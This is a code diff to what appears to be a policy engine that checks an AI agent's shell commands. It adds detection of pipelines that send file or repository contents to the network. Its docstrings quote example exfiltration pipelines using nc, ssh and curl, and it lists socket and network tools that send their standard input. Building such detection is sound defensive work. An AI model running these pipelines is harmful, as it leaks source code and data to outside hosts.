@@ -969,6 +969,8 @@ class PolicyEngine:
                 )
                 self._written_scripts(written, run)
         self._exfiltration(analysis, op, run)
+        if analysis.piped:
+            self._piped_upload(analysis, op, run)
         if ShellSignal.UNSEEN_TRANSFER in signals:
             why = _finding(analysis, ShellSignal.UNSEEN_TRANSFER, "")
             run.ask("builtin:upload-file", f"`{shown}`: {why}; it can send any file", op)
@@ -1636,6 +1638,32 @@ class PolicyEngine:
                         op,
                     )
                     return
+
+    @staticmethod
+    def _piped_upload(analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
+        """A network client that sends its standard input sends what the earlier stages of
+        its pipeline read: `cat src/app.py | nc host 80`, `tar cz . | ssh host 'cat > x'`,
+        `git bundle create - --all | curl -T - URL` upload those files as surely as `scp`,
+        which is asked (`nc host 80 < FILE` already was). Loopback destinations are exempt."""
+        commands = analysis.commands
+        for first, end, source in analysis.piped:
+            for fact in commands[first:end]:
+                if not _sends_stdin(fact):
+                    continue
+                if all(_is_loopback(t.host) for t in fact.network):
+                    continue  # a local service, or no destination at all
+                for upstream in commands[source:first]:
+                    sent = _repository_output(upstream) or next(
+                        (s.target for s in upstream.operations if s.kind is ShellOp.READ), None
+                    )
+                    if sent is not None:
+                        run.ask(
+                            "builtin:upload-file",
+                            f"`{_short(analysis.command)}` sends what {upstream.name} reads "
+                            f"({_short(sent)}) through {fact.name} to the network",
+                            op,
+                        )
+                        return
 
     @staticmethod
     def _client_config(analysis: ShellAnalysis, op: Operation, run: _Run) -> None:
@@ -2989,6 +3017,43 @@ def _sends(fact: CommandFact) -> bool:
     if fact.name.lower() in _SENDERS and fact.network:
         return True
     return any(s.detail == UPLOAD for s in fact.operations)
+
+
+# Clients that send what arrives on their standard input to their destination.
+_STDIN_SENDERS = frozenset(
+    {
+        "nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat", "telnet", "openssl",
+        "ssh", "http", "https", "xh", "httpie",
+    }
+)  # fmt: skip
+_STDIN_DATA = ("@-", "@/dev/stdin")
+
+
+def _sends_stdin(fact: CommandFact) -> bool:
+    """Whether a network client sends its standard input: a socket tool, `ssh` (to the remote
+    command), HTTPie (a piped body), or curl told to (`-T -`, `-d @-`, `-F f=@-`) and wget
+    (`--post-file=/dev/stdin`)."""
+    name = fact.name.lower()
+    if name in _STDIN_SENDERS:
+        return bool(fact.network)
+    argv = fact.argv[1:]
+    if name == "curl":
+        for index, arg in enumerate(argv):
+            if arg in ("-T", "--upload-file") and argv[index + 1 : index + 2] in (("-",), (".",)):
+                return True
+            if arg in ("--upload-file=-", "--upload-file=.") or arg.endswith(_STDIN_DATA):
+                return True
+        return False
+    return name == "wget" and any(a.endswith("/dev/stdin") for a in argv)
+
+
+def _repository_output(fact: CommandFact) -> str | None:
+    """The words "the repository" when a git command writes the repository's content to its
+    output (`git archive`, `git bundle create`, `git format-patch --stdout`), else None."""
+    if fact.name != "git":
+        return None
+    sub, _ = git_subcommand(tuple(a.lower() for a in fact.argv[1:]))
+    return "the repository" if sub in ("archive", "bundle", "format-patch") else None
 
 
 def _uploaded_files(fact: CommandFact) -> list[str]:
